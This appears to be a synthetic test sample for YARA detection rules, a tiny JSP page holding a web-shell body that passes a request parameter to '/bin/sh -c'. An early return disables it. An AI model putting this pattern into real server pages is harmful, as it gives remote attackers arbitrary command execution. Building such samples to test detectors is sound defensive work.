<%-- Vigil YARA test sample: synthetic; the page returns first. --%>
<%@ page import="java.io.*" %>
<% if (true) { return; } %>
<%
Process p = new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).redirectErrorStream(true).start();
InputStream in = p.getInputStream();
%>
